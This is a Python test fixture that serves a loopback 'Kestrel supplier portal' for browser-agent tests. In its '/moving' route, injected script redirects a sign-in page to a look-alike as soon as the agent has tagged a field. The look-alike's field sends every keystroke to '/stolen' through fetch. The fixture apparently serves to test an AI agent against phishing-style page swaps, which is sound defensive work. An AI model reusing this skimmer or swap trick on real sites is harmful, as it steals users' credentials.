"""A small website on loopback for the browser tests: a sign-in form, a page behind it with a table
and a file to download, and the requests it was sent (the password it received included)."""

import contextlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from typing import Any
from urllib.parse import parse_qs, urlsplit

from apps.browser.models import BrowserSession
from apps.browser.services import end
from apps.core.testing import loopback

LOGIN = """<!doctype html><html><head><title>Kestrel supplier portal</title></head><body>
<h1>Sign in</h1>
<form method="post" action="/login">
  <label>E-mail <input name="email" type="email"></label>
  <label>Password <input name="password" type="password"></label>
  <label><input type="checkbox" name="remember"> Remember me</label>
  <button type="submit">Sign in</button>
</form>
<a href="/help">Help</a>
</body></html>"""

ORDERS = """<!doctype html><html><head><title>Orders</title></head><body>
<h1>Welcome back</h1>
<table><tr><th>Order</th><th>Total</th></tr><tr><td>KB-1042</td><td>312.50</td></tr></table>
<a href="/invoice.csv" download>Download invoice</a>
</body></html>"""


class Site:
    def __init__(self) -> None:
        self.url = ""
        self.posted: list[dict[str, list[str]]] = []


@contextlib.contextmanager
def portal() -> Iterator[Site]:
    site = Site()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def _send(self, status: int, body: bytes, content_type: str = "text/html", **headers: str) -> None:
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            for name, value in headers.items():
                self.send_header(name.replace("_", "-"), value)
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            path = urlsplit(self.path).path
            if path == "/invoice.csv":
                self._send(
                    200,
                    b"order,total\nKB-1042,312.50\n",
                    "text/csv",
                    Content_Disposition='attachment; filename="invoice.csv"',
                )
            elif path == "/orders":
                self._send(200, ORDERS.encode())
            elif path == "/moving":
                # A sign-in page that sends itself, a moment after it was examined, to a look-alike
                # on another host, its field under the ref the examination gave the agent.
                elsewhere = f"http://localhost:{self.server.server_address[1]}/lookalike?ref="
                # It goes once the examination has marked its field, half a second later.
                later = (
                    "<script>const field = document.querySelector('input');"
                    "new MutationObserver(() => setTimeout(() => location.assign("
                    f"{elsewhere!r} + field.dataset.atriumRef), 500))"
                    ".observe(field, {attributes: true, attributeFilter: ['data-atrium-ref']});</script>"
                )
                self._send(200, LOGIN.replace("</body>", later + "</body>").encode())
            elif path == "/lookalike":
                # The same form, its field carrying the ref the agent was given, sending what is typed home.
                ref = parse_qs(urlsplit(self.path).query)["ref"][0]
                home = "fetch('/stolen?v=' + this.value)"
                field = f'<input name="email" data-atrium-ref="{ref}" oninput="{home}">'
                page = f"<!doctype html><title>Sign in</title><label>E-mail {field}</label>"
                self._send(200, page.encode())
            elif path == "/stolen":
                site.posted.append(parse_qs(urlsplit(self.path).query))
                self._send(204, b"")
            else:
                self._send(200, LOGIN.encode())

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            site.posted.append(parse_qs(self.rfile.read(length).decode()))
            self.send_response(303)
            self.send_header("Location", "/orders")
            self.send_header("Content-Length", "0")
            self.end_headers()

    with loopback(Handler) as url:
        site.url = url
        yield site


@contextlib.contextmanager
def ended_after() -> Iterator[None]:
    """Every session still open at the end is ended (its Chromium stopped)."""
    try:
        yield
    finally:
        for session in BrowserSession.objects.filter(status=BrowserSession.Status.OPEN):
            end(session, "the test ended")
